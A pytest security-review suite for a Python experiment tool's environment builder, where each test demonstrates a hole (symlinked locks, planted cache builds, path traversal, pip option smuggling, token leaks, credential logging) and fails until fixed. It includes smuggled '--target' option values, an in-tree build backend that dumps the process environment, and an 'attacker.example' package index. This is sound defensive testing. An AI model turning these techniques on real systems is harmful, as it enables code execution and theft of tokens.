"""Security and robustness review of issue 13's environments: each test shows one hole, and FAILS until it
is fixed. The docstring says what is wrong and what the fix should be.

Everything is real: builds with uv (offline: hand-made wheels and an in-tree build backend, never the
package index), real cache folders, a real script run, a real `runyard server --auth`. Each test builds
into a cache of its own (RUNYARD_ENV_CACHE under tmp_path) so it cannot disturb the session-wide cache.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from conftest import SourceDir
from runyard import Experiment, ScriptRunConfig, Workspace
from runyard.environments import Environment, layer
from runyard.environments.build import prepare_environment
from runyard.environments.plan import plan_environment
from runyard.errors import EnvironmentBuildError, EnvironmentDefinitionError, RunyardError
from runyard.server.auth import create_token
from server_process import ServerProcess, running_server


def definition(name: str, *pip: str, **python: Any) -> dict[str, Any]:
    """v1's environment JSON with a pip list (and extra keys for the python section)."""
    return {
        "name": name,
        "python": {"condaDependencies": {"dependencies": [{"pip": list(pip)}]}, **python},
    }


def tiny_wheel(folder: Path, value: str = "42") -> Path:
    """A real, hand-made pure-Python wheel (runyardtinywheel 1.0) whose module holds VALUE = `value`."""
    files = {
        "runyardtinywheel.py": f"VALUE = {value}\n".encode(),
        "runyardtinywheel-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: runyardtinywheel\n"
        b"Version: 1.0\n",
        "runyardtinywheel-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
    }
    record = [
        f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}"
        for n, d in files.items()
    ]
    files["runyardtinywheel-1.0.dist-info/RECORD"] = (
        "\n".join([*record, "runyardtinywheel-1.0.dist-info/RECORD,,"]) + "\n"
    ).encode()
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / "runyardtinywheel-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return wheel


def python_says(python: str, code: str) -> str:
    done = subprocess.run([python, "-c", code], capture_output=True, text=True, timeout=120)
    return (done.stdout + done.stderr).strip()


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "env-cache"
    monkeypatch.setenv("RUNYARD_ENV_CACHE", str(folder))
    return folder


# -- the build cache is trusted blindly ----------------------------------------------------------------


def test_a_lock_file_that_is_a_symlink_does_not_truncate_its_target(cache: Path, tmp_path: Path) -> None:
    """build.py `_hash_lock` (build.py:104-117) opens <cache>/locks/<hash>.lock with O_CREAT and no
    O_NOFOLLOW, then ftruncate()s it and writes "process <pid>" into it. Whoever can write the cache (a
    shared RUNYARD_ENV_CACHE, the "shared cache folder" the issue asks for) plants a symlink there and the
    next build overwrites any file the builder may write (~/.bashrc, a workspace's runyard.db, ...).
    remove_build (build.py:399) opens the same path the same way.

    Fix: open the lock with O_NOFOLLOW (and O_CLOEXEC), check fstat() says a regular file owned by this
    user, and never truncate it (write the holder with pwrite + ftruncate only after that check)."""
    plan = plan_environment(definition("lock-link", "azureml-defaults"))  # layer only: builds offline
    victim = tmp_path / "precious.txt"
    victim.write_text("precious\n")
    (cache / "locks").mkdir(parents=True)
    (cache / "locks" / f"{plan.hash}.lock").symlink_to(victim)
    with contextlib.suppress(RunyardError, OSError):  # refusing the planted lock is a fine outcome
        prepare_environment(plan)
    assert victim.read_text() == "precious\n", "the build truncated the lock symlink's target"


def test_a_build_planted_in_a_shared_cache_is_not_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """build.py `_ready`/`prepare_environment` (build.py:138-159) reuse <cache>/<hash>/ as soon as
    runyard-env.json and bin/python exist, without asking who made them. The hash is predictable (sha256 of
    the requirements, docs/environments.md "The hash"), so on a cache another user can write (a group- or
    world-writable RUNYARD_ENV_CACHE, e.g. /srv/runyard-envs shared by a team) anyone can plant a
    "finished" environment whose bin/python is their program: every job needing that hash then runs it
    as the job's owner. The same holds for a planted layers/<key>/.ready and a poisoned interpreters.json.

    Fix: cache_dir() is created 0o700; prepare_environment (and layer/interpreters) refuse to use a cache
    folder that is writable by group or others or not owned by this user (EnvironmentBuildError saying
    how to fix the permissions), and only reuse <hash>/ (and its marker) when owned by this user.
    """
    cache = tmp_path / "shared-cache"
    cache.mkdir()
    os.chmod(cache, 0o777)  # what a team does to share one cache
    monkeypatch.setenv("RUNYARD_ENV_CACHE", str(cache))
    plan = plan_environment(definition("planted", "azureml-defaults"))
    planted = cache / plan.hash
    layer.site_packages(planted, plan.python).mkdir(parents=True)
    (planted / "bin").mkdir()
    (planted / "bin" / "python").write_text("#!/bin/sh\necho PLANTED-BY-ANOTHER-USER\n")
    os.chmod(planted / "bin" / "python", 0o755)
    (planted / "runyard-env.json").write_text("{}")
    if os.geteuid() == 0:  # make it really another user's (nobody), as it would be on a shared machine
        for path in [planted, *planted.rglob("*")]:
            os.lchown(path, 65534, 65534)
    try:
        prepared = prepare_environment(plan)
    except RunyardError:
        return  # refused: the fix
    assert "PLANTED" not in python_says(prepared.python, "print('ok')"), (
        f"a build planted by another user was reused: jobs would run {prepared.python}"
    )


def test_the_layer_index_cannot_point_outside_the_layers_folder(
    cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """layer.py `_same_minor_layer` (layer.py:140-146) takes `layers / json["layer"]` from
    layers/stamp-*.json as it is: "../../x" or an absolute path is used, and every environment's
    _runyard_layer.pth then names that folder, so whatever it holds (a `runyard` package) is imported by
    every job. Only someone who can write the cache can do it, but the value is a path read from a file and
    must be checked like the hashes are (build._HASH).

    Fix: accept only a plain name matching the key format (16 hex digits) for "layer", and a resolved folder
    strictly inside <cache>/layers; otherwise recompute the layer (and rewrite the index)."""
    monkeypatch.setattr(layer, "_memo", {})  # this process may have resolved the layer of another cache
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / ".ready").write_text("[]")
    (cache / "layers").mkdir(parents=True)
    index = cache / "layers" / f"stamp-{layer._stamp()}.json"
    index.write_text(json.dumps({"layer": str(elsewhere)}))
    folder = layer.layer_folder(layer.current_version())
    assert folder.resolve().is_relative_to((cache / "layers").resolve()), f"the layer is {folder}"


def test_a_relative_cache_folder_still_builds_environments_jobs_can_start(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """config.py `env_cache_dir` returns RUNYARD_ENV_CACHE (or XDG_CACHE_HOME) as given, relative or not.
    build.py then runs uv with cwd=<cache> (build.py:225, `_Log(lock_fd, root)`) and a temporary folder
    path relative to the *old* cwd, so uv creates the venv in <cache>/<cache>/..., and the build dies with a
    bare FileNotFoundError (not an EnvironmentBuildError: the job supervisor reports a SystemError), leaving
    that stray folder behind. Were it built, PreparedEnvironment.python would be relative too, and jobs
    are spawned with cwd=<snapshot> (process_job.py:334), where that path does not exist.

    Fix: env_cache_dir() returns an absolute path (Path(value).expanduser().absolute(); the XDG spec says
    to ignore a relative XDG_CACHE_HOME)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RUNYARD_ENV_CACHE", "relative-cache")
    plan = plan_environment(definition("relative", "azureml-defaults"))  # layer only: builds offline
    prepared = prepare_environment(plan)
    elsewhere = tmp_path / "a-job-folder"
    elsewhere.mkdir()
    done = subprocess.run(
        [prepared.python, "-c", "import runyard; print('ok')"],
        cwd=elsewhere,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.stdout.strip() == "ok", done.stderr


# -- what a definition can make the build do -----------------------------------------------------------


def test_a_pip_option_value_cannot_smuggle_more_uv_options(cache: Path, tmp_path: Path) -> None:
    """conda_map.py `pip_option` (conda_map.py:182-190) allow-lists the option *name* but keeps the rest
    of the line as its value, and build.py `_option_args` (build.py:268-269) shlex-splits it again: the pip
    line "--find-links DIR --target /anywhere" passes `--target /anywhere` (or --python, --prefix,
    --break-system-packages, --system, ...) to `uv pip install`. Here the package lands outside the cache
    (and not in the environment, which is still cached as "ready"); --target ~/.local/lib/python3.X/
    site-packages would drop a .pth into every later Python of the user, the scheduler's included.

    Fix: a value is exactly one token (no whitespace; refuse with EnvironmentDefinitionError naming the
    line), and _option_args passes [name, value] as two argv items without re-splitting."""
    wheels = tiny_wheel(tmp_path / "wheels").parent
    outside = tmp_path / "outside-the-cache"
    pip = (f"--find-links {wheels} --target {outside}", "--no-index", "runyardtinywheel==1.0")
    try:
        plan = plan_environment(definition("smuggle", *pip))
    except EnvironmentDefinitionError:
        return  # refused when planned: the fix
    with contextlib.suppress(EnvironmentBuildError):
        prepare_environment(plan)
    assert not outside.exists(), f"uv installed into {outside}: {sorted(p.name for p in outside.iterdir())}"


def test_a_pip_option_with_an_unbalanced_quote_is_a_definition_error(cache: Path) -> None:
    """The pip line `--index-url "https://pypi.org/simple` is accepted by plan_environment, then
    build.py `_option_args` (build.py:269) raises a bare ValueError ("No closing quotation") from shlex in
    the middle of a build: not an EnvironmentBuildError/EnvironmentDefinitionError, so the job supervisor
    reports a "runyard could not run this job: ValueError" SystemError and the scheduler a SystemError.

    Fix: options are validated when planned (one token, no quotes), so this is an
    EnvironmentDefinitionError naming the line."""
    with pytest.raises(EnvironmentDefinitionError, match="index-url"):
        plan = plan_environment(definition("quote", '--index-url "https://pypi.org/simple', "tabulate"))
        prepare_environment(plan)


def test_package_build_code_does_not_get_the_workspace_token(
    cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """build.py `_uv_env` (build.py:262-265) hands uv the scheduler's whole environment, RUNYARD_TOKEN
    included: compute/local.py:29 puts the workspace token (write scope, maybe a compute grant) into the
    environment of every detached scheduler and supervisor. uv runs the build backend of every sdist or
    source tree the environment names (setup.py, an in-tree backend: third-party code), so that code gets
    the workspace token, although the job itself is only given a run token for its own run
    (process_job.py:186-188, docs/security.md "Run token").

    Fix: build with a scrubbed environment: drop RUNYARD_TOKEN (and the other RUNYARD_*/AZUREML_* run
    variables) from _uv_env() and from the pip fallback's environment."""
    monkeypatch.setenv("RUNYARD_TOKEN", "ry_reviewtoken_workspace-secret")
    seen = tmp_path / "what-the-build-backend-saw.json"
    source = tmp_path / "leaky"
    source.mkdir()
    (source / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "leaky"\nversion = "1.0"\n'
    )
    (source / "backend.py").write_text(
        textwrap.dedent(
            f"""
            import base64, hashlib, json, os, zipfile

            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                with open({str(seen)!r}, "w") as fh:
                    json.dump(dict(os.environ), fh)
                files = {{
                    "leaky.py": b"X = 1\\n",
                    "leaky-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: leaky\\nVersion: 1.0\\n",
                    "leaky-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\n"
                    b"Tag: py3-none-any\\n",
                }}
                rows = [
                    n + ",sha256=" + base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()
                    + "," + str(len(d))
                    for n, d in files.items()
                ]
                files["leaky-1.0.dist-info/RECORD"] = ("\\n".join(rows + ["leaky-1.0.dist-info/RECORD,,"])
                                                       + "\\n").encode()
                name = "leaky-1.0-py3-none-any.whl"
                with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
                    for n, d in files.items():
                        archive.writestr(n, d)
                return name
            """
        )
    )
    plan = plan_environment(definition("leaky-build", f"leaky @ {source.as_uri()}"))
    prepare_environment(plan)
    assert seen.exists(), "the in-tree build backend did not run"
    leaked = json.loads(seen.read_text()).get("RUNYARD_TOKEN")
    assert leaked is None, "package build code got the scheduler's workspace token"


def test_index_credentials_stay_out_of_errors_and_build_logs(cache: Path) -> None:
    """An index URL with credentials (`--index-url https://user:token@pkgs.example/simple`, the usual way
    to reach a private feed) is written verbatim into the build log (the "pip options:" line and every
    `$ uv pip install ...` command, build.py:185, 228) and into the EnvironmentBuildError message
    ("the package index http://user:token@... is unreachable", build.py:288). Those become the run's
    error (readable by every read token, shown in the studio and `runyard runs show`),
    azureml-logs/20_image_build_log.txt and <cache>/<hash>/build-log.txt. uv itself redacts them.

    Fix: redact the userinfo of every URL (pip options and `name @ URL` requirements) before it reaches a
    log line or a message: `https://user:****@pkgs.example/simple`."""
    plan = plan_environment(
        definition(
            "private-feed",
            "--index-url http://alice:s3cret-token@127.0.0.1:9/simple",
            "runyard-review-no-such-package==1.0",
        )
    )
    with pytest.raises(EnvironmentBuildError) as caught:
        prepare_environment(plan)
    assert "s3cret-token" not in str(caught.value), "the run's error message holds the index password"
    assert "s3cret-token" not in (caught.value.log or ""), "the build log holds the index password"


def test_a_wheel_that_changed_on_disk_is_not_served_from_the_old_build(cache: Path, tmp_path: Path) -> None:
    """A wheel named by path (what Environment.add_private_pip_wheel returns, turned into
    'name @ file:///...' by conda_map.py `pip_line_requirement`) enters the hash by its *path* only
    (plan.py `_content_hash`). Replace the file (a rebuilt wheel, or a write token overwriting
    artifacts/environments/private-wheels/X.whl through PUT /api/v1/file) and every run keeps the old build,
    and step reuse (fingerprint = plan hash) keeps the old results, while a machine with an empty cache
    installs the new bytes: the same hash means different code on different machines.

    Fix: for a local `file:` requirement (and --find-links folders) put the file's sha256 in the plan
    hash (one stat + a digest memoised by (path, size, mtime) keeps planning fast), or refuse local paths
    in definitions that leave the submitting process."""
    wheel = tiny_wheel(tmp_path / "wheels", value="42")
    first = prepare_environment(plan_environment(definition("private-wheel", str(wheel))))
    assert python_says(first.python, "import runyardtinywheel as m; print(m.VALUE)") == "42"
    tiny_wheel(tmp_path / "wheels", value="666")  # a new wheel at the same path
    second = prepare_environment(plan_environment(definition("private-wheel", str(wheel))))
    assert python_says(second.python, "import runyardtinywheel as m; print(m.VALUE)") == "666", (
        "the old build (and hash) was reused although the wheel it was built from changed"
    )


def test_prune_removes_what_killed_builds_and_removals_left_behind(cache: Path, tmp_path: Path) -> None:
    """A build killed halfway leaves <cache>/.<hash>.building-<pid>/ (build.py:231), which only the next
    builder *of the same hash* removes (build.py:165); remove_build killed during its rmtree leaves
    .<hash>.removing-<pid>/ (build.py:400), which nothing removes. A killed build of a large environment
    (torch: GBs) whose definition is then changed is never built again, so its half-built folder stays
    forever: `runyard env prune` (cli/env.py:296-327) only looks at finished builds (build._HASH folders),
    and `runyard env list --builds` does not show the space either.

    Fix: list_builds/prune also collect `.<hash>.building-*` and `.<hash>.removing-*` folders whose hash
    lock can be taken without blocking (so their builder is dead) and remove them (prune --older-than
    applies to their mtime); `env list --builds` reports their size."""
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()  # a pid that is certainly not running any more
    old = time.time() - 90 * 86400
    leftovers = [cache / f".{'a' * 64}.building-{dead.pid}", cache / f".{'b' * 64}.removing-{dead.pid}"]
    for folder in leftovers:
        (folder / "lib").mkdir(parents=True)
        (folder / "lib" / "big.bin").write_bytes(b"x" * 1_000_000)
        os.utime(folder, (old, old))
    done = subprocess.run(
        [sys.executable, "-m", "runyard", "env", "prune", "--older-than", "30"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    left = [folder.name for folder in leftovers if folder.exists()]
    assert left == [], f"prune left {left} behind: {done.stdout.strip()}"


# -- a definition read from a record makes the planner read local files ---------------------------------


def test_planning_does_not_hang_on_a_conda_file_that_is_a_fifo(tmp_path: Path) -> None:
    """plan.py `_conda_dependencies` (plan.py:176-190) reads `python.condaDependenciesFile` with
    Path.read_text(): no size bound, no check that it is a regular file, on whatever machine plans. The
    registry (store/env_rules.py PythonSection) and a graph (engine/graph_spec.py EnvironmentSpec) accept
    any string there, and planning happens in the scheduler's main thread (engine/execution.py `plan`),
    in `runyard env list` for every registered environment (cli/env.py `_plan_row`) and at submit. A FIFO
    (or /dev/zero, /dev/stdin, a 10 GB log) stalls all of them: one write-scoped registration or one
    pipeline stops the scheduler for every other pipeline. plan.py `_where` reads `runyard.source` the same
    way.

    Fix: the store and graph refuse condaDependenciesFile (and runyard.source) in stored definitions, or
    the planner reads only a regular file (os.open with O_NONBLOCK, fstat S_ISREG) of at most
    MAX_DEFINITION_BYTES, else EnvironmentDefinitionError."""
    fifo = tmp_path / "conda.yml"
    os.mkfifo(fifo)
    code = (
        "import json, sys\n"
        "from runyard.environments.plan import plan_environment\n"
        "from runyard.errors import EnvironmentDefinitionError\n"
        "try:\n"
        "    plan_environment(json.loads(sys.argv[1]))\n"
        "except EnvironmentDefinitionError:\n"
        "    print('refused')\n"
    )
    defn = {"name": "fifo", "python": {"condaDependencies": None, "condaDependenciesFile": str(fifo)}}
    started = time.monotonic()
    try:
        done = subprocess.run(  # a hang blocks forever: 60 s tells it apart from a slow import on a busy box
            [sys.executable, "-c", code, json.dumps(defn)], capture_output=True, text=True, timeout=60
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"plan_environment hung for {time.monotonic() - started:.0f} s reading a FIFO")
    assert "refused" in done.stdout, done.stderr


def test_a_stored_conda_file_path_with_nul_is_a_definition_error() -> None:
    """The store and the graph accept `condaDependenciesFile: "/tmp/a\\x00b"`, and plan_environment then
    raises a bare ValueError ("embedded null byte": plan.py:187 catches only OSError and YAMLError), which the
    scheduler and the supervisor report as a SystemError instead of "cannot be built as written".

    Fix: refuse NUL (and, see the FIFO test, the field itself) in store/env_rules.py and graph_spec, and
    catch ValueError in `_conda_dependencies` as an EnvironmentDefinitionError."""
    defn = {"name": "nul", "python": {"condaDependencies": None, "condaDependenciesFile": "/tmp/a\x00b"}}
    with pytest.raises(EnvironmentDefinitionError):
        plan_environment(defn)


# -- a job's variables ----------------------------------------------------------------------------------


def test_run_configuration_variables_do_not_override_runyards_own(
    sqlite_workspace: Workspace, source_dir: SourceDir
) -> None:
    """process_job.py `environment` (process_job.py:299-321) applies the environment's variables first
    (runyard's win over them: good), but `extra` last, and for a script run `extra` is
    RunConfiguration.environment_variables (supervisor.py:61-64, 78). So RUNYARD_RUN_ID, AZUREML_RUN_ID,
    RUNYARD_TRACKING_URI and, on a server workspace, RUNYARD_TOKEN (the run token) are whatever the run
    configuration says: the job logs into another run, or runs with another token than its own run's.

    Fix: apply `extra` before runyard's own variables (or drop RUNYARD_*/AZUREML_RUN_ID keys from user
    variables with a warning in 65_job_prep.txt), so runyard's variables always win."""
    source_dir.gen(
        {"job.py": "import os\nprint('SEEN', os.environ['RUNYARD_RUN_ID'], os.environ['AZUREML_RUN_ID'])\n"}
    )
    config = ScriptRunConfig(str(source_dir.path), "job.py")
    config.run_config.environment_variables = {"RUNYARD_RUN_ID": "forged-run", "AZUREML_RUN_ID": "forged"}
    run = Experiment(sqlite_workspace, "review-env-vars").submit(config)
    run.wait_for_completion(raise_on_error=False)
    log = sqlite_workspace.artifacts.local_path(f"runs/{run.id}/azureml-logs/70_driver_log.txt").read_text()
    assert f"SEEN {run.id} {run.id}" in log, log


# -- who may change what an owner's next build installs (server) ----------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Workspace, ServerProcess, str]]:
    root = tmp_path_factory.mktemp("review-env-server")
    ws = Workspace.create(root / "ws")
    token, _record = create_token(ws.store, "write", name="writer-without-compute")  # type: ignore[arg-type]
    with running_server(ws.path, root / "server.log", auth=True) as process:
        yield ws, process, token


def test_a_write_token_without_compute_cannot_change_the_owners_environment(
    server: tuple[Workspace, ServerProcess, str],
) -> None:
    """docs/security.md: "read, write and admin alone never run anything"; running code needs a compute
    grant. But server/routes_env.py `register_environment` (routes_env.py:48-56) lets any 'write' token
    register a new version of an existing environment, and Environment.get(ws, name) (what an owner's
    pipeline uses) returns the latest version: the token points the owner's next build at its own index
    (or `pkg @ https://...`), whose setup.py runs on the owner's machine with the owner's rights. The
    routes' own docstring says an environment "is code that runs".

    Fix: registering an environment needs the same grant as submitting code (a compute grant, or admin),
    or the registry records the registering token and Environment.get/the scheduler refuse versions
    registered by a token without compute."""
    ws, process, token = server
    ws.store.register_environment(
        "train-env", definition("train-env", "tabulate==0.9.0") | {"name": "train-env"}
    )
    evil = definition("train-env", "--index-url https://attacker.example/simple", "tabulate==0.9.0")
    with httpx.Client(base_url=process.url, headers={"Authorization": f"Bearer {token}"}, timeout=30) as c:
        answer = c.post("/api/v1/environments", json={"name": "train-env", "definition": evil})
    latest = Environment.get(ws, "train-env")
    options = list(latest.python.conda_dependencies.pip_options)  # type: ignore[union-attr]
    assert answer.status_code == 403, f"a write token registered version {answer.json().get('version')}"
    assert not any("attacker" in option for option in options)
